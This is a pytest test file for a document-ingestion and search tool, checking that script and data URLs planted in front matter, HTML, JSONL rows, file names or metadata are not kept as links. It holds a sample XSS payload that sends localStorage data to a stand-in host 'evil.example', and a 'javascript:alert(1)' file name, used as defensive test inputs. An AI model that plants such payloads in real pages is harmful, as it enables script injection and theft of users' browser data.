"""What a hostile or careless folder cannot do to the index: script links, links out of the
folder, huge files; and a re-ingest killed midway keeps the old version."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from groundwork.retrieval.base import SearchFilter

if TYPE_CHECKING:
    from pathlib import Path

    from groundwork.ingest.pipeline import Ingestor
    from groundwork.retrieval.keyword import KeywordIndex

SCRIPT = "javascript:fetch('//evil.example/?k='+localStorage.key)"


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("front.md", f'---\ntitle: Tides\nurl: "{SCRIPT}"\n---\n\nSpring tides come twice.\n'),
        (
            "page.html",
            f'<html><head><link rel="canonical" href="{SCRIPT}"></head>'
            "<body><p>Spring tides come twice.</p></body></html>",
        ),
        ("rows.jsonl", f'{{"text": "Spring tides come twice.", "url": "{SCRIPT}"}}\n'),
        ("rows2.jsonl", '{"text": "Spring tides come twice.", "url": "data:text/html,<b>x"}\n'),
    ],
)
def test_given_a_script_url_in_a_document_when_ingested_then_the_card_links_to_its_file(
    tmp_path: Path, ingestor: Ingestor, index: KeywordIndex, name: str, content: str
) -> None:
    """Given a document whose URL runs script, when ingested, then its cards keep a relative
    link to the file instead, and the text is still searchable."""
    (tmp_path / name).write_text(content)

    report = ingestor.ingest([tmp_path / name], collection="c", root=tmp_path)

    assert report.failed == {}
    hits = index.search("spring tides", SearchFilter(collections=["c"]), 5)
    assert hits
    assert {hit.card.url.split("#")[0] for hit in hits} == {name}


def test_given_a_script_url_as_batch_metadata_or_file_name_when_ingested_then_not_kept(
    tmp_path: Path, ingestor: Ingestor, index: KeywordIndex
) -> None:
    (tmp_path / "javascript:alert(1).txt").write_text("Neap tides come between.\n")
    (tmp_path / "b.txt").write_text("Spring tides come twice.\n")

    ingestor.ingest([tmp_path / "javascript:alert(1).txt"], collection="c", root=tmp_path)
    ingestor.ingest(
        [tmp_path / "b.txt"], collection="c", root=tmp_path, metadata={"url": "JavaScript:x"}
    )

    urls = {hit.card.url for hit in index.search("tides", SearchFilter(collections=["c"]), 5)}
    assert urls == {"./javascript:alert(1).txt", "b.txt"}


def test_given_an_http_url_when_ingested_then_it_is_kept(
    tmp_path: Path, ingestor: Ingestor, index: KeywordIndex
) -> None:
    (tmp_path / "a.md").write_text("---\nurl: https://example.org/tides\n---\n\nTides turn.\n")

    ingestor.ingest([tmp_path / "a.md"], collection="c", root=tmp_path)

    hits = index.search("tides", SearchFilter(collections=["c"]), 5)
    assert [hit.card.url for hit in hits] == ["https://example.org/tides"]
